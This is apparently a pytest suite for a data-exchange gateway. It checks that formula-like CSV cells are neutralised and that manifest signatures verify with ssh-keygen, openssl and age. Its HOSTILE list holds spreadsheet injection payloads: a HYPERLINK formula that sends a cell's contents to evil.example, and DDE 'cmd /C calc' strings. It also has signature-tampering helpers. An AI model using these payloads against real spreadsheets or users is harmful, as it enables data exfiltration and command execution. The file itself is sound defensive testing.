"""A partner with standard tools only (issue 12): spreadsheet-safe CSV, and manifest signatures
that `ssh-keygen -Y verify`, `openssl pkeyutl` and any Ed25519 library accept.

The drops here are real exchanges (every stage runs; the partner's server is the in-memory
one), and the partner-side commands are the ones docs/partners.md prints, run as written.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pyrage
import pytest
from conftest import FOLDER, REPO, Workspace

from exchange import manifest, payload
from exchange.crypto import signing, sshsig
from exchange.errors import DropRejected, NotRunnable
from exchange.gateway import Gateway
from exchange.receive import receive
from exchange.transport.memory import MemoryServer, MemoryTransport

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
HARMLESS = ["WBRI", "a=b", " =1+1"]  # a formula character later in the text is no formula
PARTNERS_MD = REPO / "docs" / "partners.md"


@pytest.fixture
def memory() -> MemoryServer:
    partner = MemoryServer()
    partner.makedirs(FOLDER)
    return partner


def run_exchange(workspace: Workspace, memory: MemoryServer, source: Path, run_id: str) -> str:
    """One whole exchange to the in-memory partner; the remote drop folder."""
    transport = MemoryTransport(memory)
    gateway = Gateway(workspace.settings, transports={"sftp": lambda endpoint, secrets: transport})
    return gateway.run(workspace.contract, source, run_id=run_id).remote_path


def download(memory: MemoryServer, remote: str, into: Path) -> Path:
    into.mkdir(parents=True)
    for name in memory.names(remote):
        (into / name).write_bytes(memory.read(f"{remote}/{name}"))
    return into


def hostile_source(workspace: Workspace, rows: int = 60) -> Path:
    """The sample extract with formula-like text in its `ethnicity` column (a kept field)."""
    path = workspace.source(rows)
    with path.open(newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    column = table[0].index("ethnicity")
    values = HOSTILE + HARMLESS
    for i, row in enumerate(table[1:]):
        row[column] = values[i % len(values)]
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(table)  # quotes a CR
    return path


def decrypt(workspace: Workspace, drop: Path, name: str) -> bytes:
    identity = pyrage.x25519.Identity.from_str(
        next(
            line for line in workspace.identity.read_text().splitlines() if line.startswith("AGE-")
        )
    )
    return pyrage.decrypt((drop / name).read_bytes(), [identity])


def undo_guard(value: str) -> str:
    """What docs/partners.md tells a partner to do to get the provider's values back."""
    return value[1:] if value.startswith("'") else value


# -- spreadsheet-safe CSV ------------------------------------------------------------------------


def test_hostile_text_arrives_neutralised_in_a_real_csv_drop(
    workspace: Workspace, memory: MemoryServer, tmp_path: Path
) -> None:
    remote = run_exchange(workspace, memory, hostile_source(workspace), "formulae")
    drop = download(memory, remote, tmp_path / "drop")
    body = json.loads((drop / manifest.MANIFEST_NAME).read_bytes())
    assert body["payload"]["csv_formula_guard"] is True
    plain = decrypt(workspace, drop, "data.csv.age")
    table = pacsv.read_csv(
        io.BytesIO(plain), parse_options=pacsv.ParseOptions(newlines_in_values=True)
    )
    got = table.column("ethnicity").to_pylist()
    assert set(got) == {"'" + v for v in HOSTILE} | set(HARMLESS)
    assert {undo_guard(v) for v in got} == set(HOSTILE + HARMLESS)  # exactly reversible
    # No text cell in the file begins with a formula character, whatever its column.
    for row in csv.reader(io.StringIO(plain.decode("utf-8"), newline="")):
        for cell in row:
            assert not re.match(r"[=+\-@\t\r]", cell), cell
    # Typed columns are untouched: numbers are written as numbers.
    assert pa.types.is_floating(table.schema.field("attendance_rate").type)
    # The partner's own tool receives it; its row count is unchanged by the guard.
    got_drop = receive(
        drop, identity=workspace.identity, sender_key=workspace.sender_key, out_dir=tmp_path / "in"
    )
    assert got_drop.rows == body["rows"]["sent"] == table.num_rows


def test_a_parquet_payload_is_not_touched(
    workspace: Workspace, memory: MemoryServer, tmp_path: Path
) -> None:
    def to_parquet(document: dict[str, Any]) -> None:
        document["servers"][0]["format"] = "parquet"

    workspace.write_contract(to_parquet)
    remote = run_exchange(workspace, memory, hostile_source(workspace), "parquet")
    drop = download(memory, remote, tmp_path / "drop")
    body = json.loads((drop / manifest.MANIFEST_NAME).read_bytes())
    assert "csv_formula_guard" not in body["payload"]
    table = pq.read_table(io.BytesIO(decrypt(workspace, drop, "data.parquet.age")))
    assert set(table.column("ethnicity").to_pylist()) == set(HOSTILE + HARMLESS)


def test_only_text_columns_are_guarded_and_numbers_stay_numbers() -> None:
    batch = pa.record_batch(
        {
            "text": pa.array(["-3.5", "+1", "=A1", "ok", None, "", "'x"]),
            "large": pa.array(["@x", "y", "z", "-", "+", "=", "'"], pa.large_string()),
            "number": pa.array([-3.5, 1.0, 0.0, -0.0, None, 2.0, 3.0]),
            "integer": pa.array([-3, 1, 0, -1, None, 2, 3]),
        }
    )
    out = payload.neutralise_formulae(batch)
    assert out.column("text").to_pylist() == ["'-3.5", "'+1", "'=A1", "ok", None, "", "''x"]
    assert out.column("large").to_pylist() == ["'@x", "y", "z", "'-", "'+", "'=", "''"]
    assert out.column("number").equals(batch.column("number"))
    assert out.column("integer").equals(batch.column("integer"))
    text = b"".join(payload.encode([batch], "csv", batch.schema)).decode()
    assert text.splitlines()[1] == '"\'-3.5","\'@x",-3.5,-3'
    unguarded = b"".join(payload.encode([batch], "csv", batch.schema, formula_guard=False))
    assert unguarded.decode().splitlines()[1] == '"-3.5","@x",-3.5,-3'


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_a_formula_is_found_wherever_its_cell_is_among_the_bytes(kind: pa.DataType) -> None:
    """Cells are found by their start offsets: in a slice of a larger column, after empty and
    null cells, as the last cell, and not behind a first character that is not ASCII."""
    values = ["=outside", "ok", "", None, "é=", "ok", "", "-1"]
    column = pa.array(values, kind)
    window = column.slice(1)  # the first cell is outside the window
    batch = pa.record_batch({"text": window})
    assert payload.neutralise_formulae(batch).column("text").to_pylist() == [
        "ok",
        "",
        None,
        "é=",
        "ok",
        "",
        "'-1",
    ]
    # Up to the empty cell before "-1": nothing to rewrite, so the rewrite is not run.
    assert not payload._may_start_a_formula(column.slice(1, 6))
    assert payload._may_start_a_formula(column.slice(0, 1))
    assert payload._may_start_a_formula(column.slice(7))
    empty = pa.record_batch({"text": pa.array(["", None, ""], kind)})
    assert payload.neutralise_formulae(empty).column("text").to_pylist() == ["", None, ""]


def best_of_three(batch: pa.RecordBatch) -> float:
    best = float("inf")
    for _ in range(3):
        started = time.perf_counter()
        payload.neutralise_formulae(batch)
        best = min(best, time.perf_counter() - started)
    return best


def test_the_guard_costs_little_per_million_rows() -> None:
    """Measured: one string column of 1M rows, with 1% formula-like cells and with none."""
    rows = 1_000_000
    column = pa.array([f"=SUM(A{i})" if i % 100 == 0 else f"free text {i}" for i in range(rows)])
    hostile = pa.record_batch({"notes": column})
    clean = pa.record_batch({"person_ref": pa.array([f"{i:032x}" for i in range(rows)])})
    assert payload.neutralise_formulae(hostile).column("notes")[0].as_py() == "'=SUM(A0)"
    assert (
        payload.neutralise_formulae(clean).column("person_ref").equals(clean.column("person_ref"))
    )
    some, none = best_of_three(hostile), best_of_three(clean)
    print(f"formula guard per 1M rows of one text column: {some:.3f} s (1% hostile), {none:.3f} s")
    # About 0.08 s and 0.02 s on the project's 2-core machine; CSV writing itself is ~0.07 s.
    assert some < 2.0 and none < 1.0


# -- signatures a partner checks with standard tools ---------------------------------------------


def doc_blocks() -> list[tuple[str, str]]:
    """The sh and python blocks of partners.md's 'Receiving with standard tools' section."""
    text = PARTNERS_MD.read_text()
    section = text.split("## Receiving with standard tools", 1)[1].split("\n## ", 1)[0]
    return re.findall(r"```(sh|python)\n(.*?)```", section, re.S)


@pytest.fixture
def partner_folder(workspace: Workspace, memory: MemoryServer, tmp_path: Path) -> Path:
    """A delivered drop, downloaded, with the partner's copies of the keys beside it."""
    remote = run_exchange(workspace, memory, workspace.source(40), "tools")
    drop = download(memory, remote, tmp_path / "drop")
    shutil.copy(workspace.sender_key, drop / "gateway.key.pub")
    shutil.copy(workspace.identity, drop / "early-help.age")
    return drop


def run_block(kind: str, code: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    program = ["sh", "-e", "-c", code] if kind == "sh" else [sys.executable, "-c", code]
    return subprocess.run(program, cwd=cwd, capture_output=True, text=True, timeout=60)


@pytest.mark.integration
@pytest.mark.skipif(
    not all(shutil.which(tool) for tool in ("ssh-keygen", "openssl", "age")),
    reason="needs OpenSSH's ssh-keygen, openssl and age",
)
def test_every_documented_standard_tool_route_verifies_a_real_drop(partner_folder: Path) -> None:
    blocks = [(kind, code) for kind, code in doc_blocks() if not code.startswith("cd ")]
    assert [kind for kind, _ in blocks] == ["sh", "sh", "python", "sh", "sh"]
    outputs = []
    for kind, code in blocks:
        done = run_block(kind, code, partner_folder)
        assert done.returncode == 0, (code, done.stdout, done.stderr)
        outputs.append(done.stdout + done.stderr)
    assert 'Good "exchange-manifest@exchange-gateway" signature for gateway' in outputs[1]
    assert "manifest.json.sig: good signature" in outputs[2]
    assert "Signature Verified Successfully" in outputs[3]
    assert (partner_folder / "data.csv").read_bytes().startswith(b'"person_ref"')
    # ssh-keygen's check-novalidate accepts it too.
    novalidate = subprocess.run(
        [
            "ssh-keygen",
            "-Y",
            "check-novalidate",
            "-n",
            sshsig.NAMESPACE,
            "-s",
            "manifest.json.sshsig",
        ],
        input=(partner_folder / manifest.MANIFEST_NAME).read_bytes(),
        cwd=partner_folder,
        capture_output=True,
        timeout=30,
    )
    assert novalidate.returncode == 0, novalidate.stderr
    # A changed manifest fails every route.
    changed = partner_folder / manifest.MANIFEST_NAME
    changed.write_bytes(changed.read_bytes().replace(b'"sent"', b'"sent" ', 1))
    for kind, code in blocks[1:4]:
        assert run_block(kind, code, partner_folder).returncode != 0, code


@pytest.mark.integration
@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH's ssh-keygen")
def test_ssh_keygen_refuses_the_manifest_signature_for_another_namespace(
    partner_folder: Path,
) -> None:
    allowed = partner_folder / "allowed_signers"
    key = (partner_folder / "gateway.key.pub").read_text().strip()
    allowed.write_text(f'gateway namespaces="file" {key}\n')
    done = subprocess.run(
        [
            *("ssh-keygen", "-Y", "verify", "-f", str(allowed), "-I", "gateway", "-n", "file"),
            *("-s", manifest.SSH_SIGNATURE_NAME),
        ],
        input=(partner_folder / manifest.MANIFEST_NAME).read_bytes(),
        cwd=partner_folder,
        capture_output=True,
        timeout=30,
    )
    assert done.returncode != 0


# -- the receiver and the staging check ----------------------------------------------------------


def test_receive_takes_a_drop_from_an_older_gateway_without_the_ssh_signature(
    workspace: Workspace, partner_folder: Path, tmp_path: Path
) -> None:
    (partner_folder / manifest.SSH_SIGNATURE_NAME).unlink()
    got = receive(
        partner_folder,
        identity=workspace.identity,
        sender_key=workspace.sender_key,
        out_dir=tmp_path / "in",
    )
    assert got.rows > 0


def _other_namespace(drop: Path, workspace: Workspace) -> None:
    key = signing.load_private_key(workspace.settings.signing_key)
    document = (drop / manifest.MANIFEST_NAME).read_bytes()
    (drop / manifest.SSH_SIGNATURE_NAME).write_bytes(sshsig.sign(key, document, "file"))


def _other_key(drop: Path, workspace: Workspace) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    document = (drop / manifest.MANIFEST_NAME).read_bytes()
    forged = sshsig.sign(Ed25519PrivateKey.generate(), document)
    (drop / manifest.SSH_SIGNATURE_NAME).write_bytes(forged)


def _garbage(drop: Path, workspace: Workspace) -> None:
    (drop / manifest.SSH_SIGNATURE_NAME).write_bytes(b"\0" * 100)


def _too_big(drop: Path, workspace: Workspace) -> None:
    (drop / manifest.SSH_SIGNATURE_NAME).write_bytes(b"A" * (sshsig.MAX_BYTES + 10))


def _a_link(drop: Path, workspace: Workspace) -> None:
    target = drop.parent / "elsewhere.sshsig"
    (drop / manifest.SSH_SIGNATURE_NAME).rename(target)
    (drop / manifest.SSH_SIGNATURE_NAME).symlink_to(target)


SSHSIG_ATTACKS = {
    "another namespace": (_other_namespace, "SSH signature"),
    "another key": (_other_key, "SSH signature"),
    "garbage": (_garbage, "SSH signature"),
    "too big": (_too_big, "larger than"),
    "a symbolic link": (_a_link, "not a plain file"),
}


@pytest.mark.parametrize("attack", SSHSIG_ATTACKS)
def test_receive_refuses_a_drop_whose_ssh_signature_does_not_verify(
    workspace: Workspace, partner_folder: Path, tmp_path: Path, attack: str
) -> None:
    tamper, words = SSHSIG_ATTACKS[attack]
    tamper(partner_folder, workspace)
    out = tmp_path / "in"
    with pytest.raises(DropRejected, match=words):
        receive(
            partner_folder,
            identity=workspace.identity,
            sender_key=workspace.sender_key,
            out_dir=out,
        )
    assert not out.exists() or not any(out.glob("*.csv"))


def _staged(workspace: Workspace, memory: MemoryServer, run_id: str) -> tuple[Gateway, Any, Path]:
    transport = MemoryTransport(memory)
    gateway = Gateway(workspace.settings, transports={"sftp": lambda endpoint, secrets: transport})
    contract = gateway.check(workspace.contract, run_id=run_id)
    prepared = gateway.prepare(contract, str(workspace.source(20)), run_id=run_id)
    folder = gateway.staging_for(prepared.drop_id)
    assert (folder / manifest.SSH_SIGNATURE_NAME).is_file()
    return gateway, contract, folder


@pytest.mark.parametrize(
    ("tamper", "words"),
    [
        (lambda f: (f / manifest.SSH_SIGNATURE_NAME).unlink(), "no manifest or signature"),
        (lambda f: (f / manifest.SSH_SIGNATURE_NAME).write_bytes(b"x"), "does not verify"),
    ],
    ids=["missing", "invalid"],
)
def test_staging_refuses_a_drop_without_a_valid_ssh_signature(
    workspace: Workspace, memory: MemoryServer, tamper: Any, words: str
) -> None:
    gateway, contract, folder = _staged(workspace, memory, "staged")
    tamper(folder)
    with pytest.raises(NotRunnable, match=words):
        gateway.deliver(contract, "staged")
    assert memory.names(FOLDER) == []
